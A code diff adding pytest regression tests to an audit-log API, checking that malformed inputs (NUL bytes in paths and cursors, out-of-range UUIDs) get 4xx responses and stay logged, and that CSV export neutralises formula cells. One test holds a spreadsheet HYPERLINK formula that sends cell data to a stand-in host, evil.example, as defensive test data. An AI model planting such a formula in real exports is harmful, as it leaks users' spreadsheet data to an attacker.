@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import shutil
@@ -102,6 +103,41 @@ def test_retention_through_the_api_drops_the_old_days_whole(fresh_pg_url: str, d
         counts = [conn.execute(f"SELECT count(*) FROM {t}").fetchone() for t in ("decision_events", "outcomes")]
     assert counts == [(0,), (0,)]  # used to keep every decision and delete only the outcomes
     assert verify(fresh_pg_url).ok
+
+
+def test_hostile_inputs_are_4xx_and_still_logged(client: TestClient, world: dict[str, str]) -> None:
+    def logged(part: str) -> int:
+        with psycopg.connect(world["url"]) as conn:
+            row = conn.execute("SELECT count(*) FROM api_access_log WHERE strpos(path, %s) > 0", (part,)).fetchone()
+        return int(row[0]) if row else 0
+
+    before = logged("x\\x00/why")
+    assert client.get("/v1/decisions/x%00/why", headers=h("imk_guess")).status_code == 401
+    assert logged("x\\x00/why") == before + 1  # a NUL in the path used to make the access go unlogged
+    nul_cursor = "MTcwMDAwMDAwMDAwMDAwMHxhAGI"  # base64 of "1700000000000000|a<NUL>b"
+    assert client.get("/v1/decisions", params={"cursor": nul_cursor}, headers=h(world["auditor"])).status_code == 422
+    far = "f0000000-0000-7000-8000-000000000000"  # a UUIDv7 stamp past datetime's range
+    for path in (f"/v1/decisions/{far}", f"/v1/decisions/{far}/why"):
+        assert client.get(path, headers=h(world["auditor"])).status_code == 404
+    r = client.get("/v1/export", params={"tenat": "acme"}, headers=h(world["auditor"]))  # misspelt: not everything
+    assert r.status_code == 422 and "tenat" in r.text
+
+
+def test_csv_cells_that_look_like_formulas_are_exported_as_text(fresh_pg_url: str, demo_fleet: Fleet,
+                                                                tmp_path: Path) -> None:
+    database.prepare(fresh_pg_url)
+    w = AuditWriter(fresh_pg_url, AuditSettings(spool_dir=tmp_path / "spool"))
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    make_engine(demo_fleet, w).decide(dataclasses.replace(ctx(0, tenant="@evil"), request_id=formula))
+    assert w.flush(20)
+    w.close()
+    with psycopg.connect(fresh_pg_url, autocommit=True) as conn:
+        key = keys.create_key(conn, name="a", role="auditor")
+    client = TestClient(create_app(fresh_pg_url))
+    (row,) = csv.DictReader(io.StringIO(client.get("/v1/export", params={"format": "csv"}, headers=h(key)).text))
+    assert row["request_id"] == "'" + formula and row["tenant"] == "'@evil"
+    (doc,) = [json.loads(line) for line in client.get("/v1/export", headers=h(key)).text.splitlines()]
+    assert doc["request_id"] == formula and doc["tenant"] == "@evil"  # JSONL, the evidence copy, stays exact
 
 
 def test_tenant_scoped_key_sees_only_its_tenant(client: TestClient, world: dict[str, str]) -> None:
